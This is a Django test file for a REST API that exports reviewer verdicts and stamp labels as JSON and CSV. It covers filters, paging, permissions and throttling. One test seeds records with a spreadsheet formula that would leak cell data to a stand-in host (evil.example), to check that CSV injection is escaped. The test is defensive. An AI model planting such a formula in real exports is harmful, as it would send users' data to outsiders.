"""Label export over the REST API: JSON pages and streamed CSV, filters, permissions, throttling."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.cache import cache
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient
from rest_framework.throttling import UserRateThrottle

from screening.review.verdicts import stamp_label_record, verdict_record
from tests.conftest import make_user
from tests.stamps import ingest_tracklet, model_version, score_tracklet

pytestmark = pytest.mark.django_db


def token_client(user) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    return client


@pytest.fixture
def labelled():
    """Two nights, two reviewers, verdicts (with an undo) and stamp labels under two models."""
    alice, bob = make_user("alice", "reviewer"), make_user("bob", "reviewer")
    old = model_version("a" * 16, active=False)
    new = model_version("b" * 16)
    first = ingest_tracklet("T1", night="2026-11-01")
    second = ingest_tracklet("T2", night="2026-11-02")
    score_tracklet(first, old, score=0.91)
    score_tracklet(second, new, score=0.12)
    verdict_record(tracklet_id=first.pk, reviewer=alice, value="real")
    verdict_record(tracklet_id=first.pk, reviewer=alice, value="withdrawn")
    verdict_record(tracklet_id=first.pk, reviewer=bob, value="real")
    verdict_record(tracklet_id=second.pk, reviewer=bob, value="bogus")
    detection = second.detections.order_by("index").first()
    stamp_label_record(detection_id=detection.pk, reviewer=bob, class_name="CR")
    return {"alice": alice, "bob": bob, "old": old, "new": new, "first": first, "second": second}


def test_verdicts_come_out_as_json_with_what_the_reviewer_saw(labelled) -> None:
    client = token_client(make_user("scientist", "consumer"))
    body = client.get("/api/v1/export/verdicts/").json()
    rows = body["results"]
    assert [(r["tracklet"], r["reviewer"], r["verdict"]) for r in rows] == [
        ("T1", "alice", "real"),
        ("T1", "alice", "withdrawn"),
        ("T1", "bob", "real"),
        ("T2", "bob", "bogus"),
    ]
    assert rows[0]["score_shown"] == pytest.approx(0.91)
    assert rows[0]["model_version_shown"] == labelled["old"].version
    assert rows[3]["model_version_shown"] == labelled["new"].version
    assert rows[3]["night"] == "2026-11-02"


def test_filters_narrow_the_rows(labelled) -> None:
    client = token_client(make_user("scientist", "consumer"))

    def tracklets(query: str) -> list[tuple[str, str]]:
        rows = client.get(f"/api/v1/export/verdicts/?{query}").json()["results"]
        return [(r["tracklet"], r["verdict"]) for r in rows]

    assert tracklets("night=2026-11-02") == [("T2", "bogus")]
    assert tracklets("reviewer=alice") == [("T1", "real"), ("T1", "withdrawn")]
    assert tracklets("verdict=bogus") == [("T2", "bogus")]
    assert tracklets(f"model_version={labelled['new'].version}") == [("T2", "bogus")]
    assert tracklets("since=2999-01-01T00:00:00Z") == []
    labels = client.get("/api/v1/export/labels/?stamp_class=CR").json()["results"]
    assert [(r["tracklet"], r["detection_index"], r["stamp_class"]) for r in labels] == [
        ("T2", 0, "CR")
    ]
    assert labels[0]["class_is_real"] is False
    assert client.get("/api/v1/export/labels/?stamp_class=AST").json()["results"] == []
    bad = client.get("/api/v1/export/verdicts/?verdict=maybe")
    assert bad.status_code == 400 and "verdict" in bad.json()


def test_csv_is_streamed_whole_with_a_header(labelled) -> None:
    client = token_client(make_user("scientist", "consumer"))
    response = client.get("/api/v1/export/verdicts/?format=csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert response.streaming
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 4
    assert rows[0]["tracklet"] == "T1" and rows[0]["verdict"] == "real"
    assert float(rows[0]["score_shown"]) == pytest.approx(0.91)
    labels = client.get("/api/v1/export/labels/", HTTP_ACCEPT="text/csv")
    table = list(csv.DictReader(io.StringIO(b"".join(labels.streaming_content).decode())))
    assert [(r["tracklet"], r["stamp_class"], r["reviewer"]) for r in table] == [
        ("T2", "CR", "bob")
    ]


def test_json_pages_follow_cursor_links_without_gaps(labelled) -> None:
    client = token_client(make_user("scientist", "consumer"))
    seen, url = [], "/api/v1/export/verdicts/?page_size=3"
    while url:
        body = client.get(url).json()
        seen += [r["id"] for r in body["results"]]
        url = body["next"]
    assert len(seen) == 4 and seen == sorted(seen)


def test_only_readers_of_labels_get_them(labelled) -> None:
    assert APIClient().get("/api/v1/export/verdicts/").status_code == 401
    pipeline = token_client(make_user("pipeline", "pipeline"))
    assert pipeline.get("/api/v1/export/verdicts/").status_code == 403
    assert pipeline.get("/api/v1/export/labels/?format=csv").status_code == 403
    reviewer = token_client(labelled["alice"])
    assert reviewer.get("/api/v1/export/labels/").status_code == 200
    consumer = token_client(make_user("scientist", "consumer"))
    # read-only: a consumer token cannot give verdicts or labels
    first = labelled["first"]
    refused = consumer.post(f"/api/v1/tracklets/{first.pk}/verdict/", {"value": "real"})
    assert refused.status_code == 403


def test_the_api_throttles_a_client_that_asks_too_often(labelled, monkeypatch) -> None:
    monkeypatch.setattr(UserRateThrottle, "THROTTLE_RATES", {"user": "3/minute"})
    cache.clear()
    client = token_client(make_user("scientist", "consumer"))
    codes = [client.get("/api/v1/export/verdicts/").status_code for _ in range(4)]
    assert codes == [200, 200, 200, 429]
    cache.clear()


def test_the_openapi_schema_documents_the_export_and_its_docs_page_works(labelled) -> None:
    client = token_client(make_user("scientist", "consumer"))
    schema = client.get("/api/v1/schema/?format=json")
    assert schema.status_code == 200
    paths = schema.json()["paths"]
    assert "/api/v1/export/verdicts/" in paths and "/api/v1/export/labels/" in paths
    parameters = {p["name"] for p in paths["/api/v1/export/labels/"]["get"]["parameters"]}
    assert {"night", "since", "until", "reviewer", "model_version", "stamp_class"} <= parameters
    client.force_login(labelled["alice"])
    docs = client.get("/api/v1/docs/")
    assert docs.status_code == 200 and b"swagger-ui" in docs.content
    assert b"cdn." not in docs.content  # served from the sidecar, works offline


def _csv_rows(client, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
def test_csv_text_cells_a_spreadsheet_would_run_as_formulas_are_quoted(labelled, start) -> None:
    """OWASP's CSV injection advice: a text cell starting with = + - @ tab or carriage return gets
    a leading single quote, whatever column it is in (names from the database rows made before
    names were checked, usernames, the class the model showed); numbers stay numbers."""
    from django.contrib.auth.models import User

    from screening.models import StampClass, StampLabel, Verdict

    formula = f'{start}HYPERLINK("http://evil.example/?leak="&A1,"click")'
    StampClass.objects.filter(name="CR").update(name=formula[:32])  # a row older than the check
    User.objects.filter(username="bob").update(username=f"{start}bob")
    StampLabel.objects.update(class_shown=f"{start}CR")
    Verdict.objects.filter(reviewer__username=f"{start}bob", value="bogus").update(
        score_shown=-0.25
    )
    client = token_client(make_user("scientist", "consumer"))
    (label,) = _csv_rows(client, "/api/v1/export/labels/?format=csv")
    assert label["stamp_class"] == "'" + formula[:32]
    assert label["reviewer"] == f"'{start}bob" and label["class_shown"] == f"'{start}CR"
    assert label["tracklet"] == "T2" and label["detection_index"] == "0"
    verdicts = _csv_rows(client, "/api/v1/export/verdicts/?format=csv")
    assert [r["reviewer"] for r in verdicts] == ["alice", "alice", f"'{start}bob", f"'{start}bob"]
    assert verdicts[3]["score_shown"] == "-0.25"  # a negative number is a number, not a formula
    assert verdicts[0]["created_at"][:1].isdigit() and verdicts[0]["night"] == "2026-11-01"
    # JSON carries the values as they are (no spreadsheet reads it)
    rows = client.get("/api/v1/export/labels/").json()["results"]
    assert rows[0]["stamp_class"] == formula[:32] and rows[0]["reviewer"] == f"{start}bob"
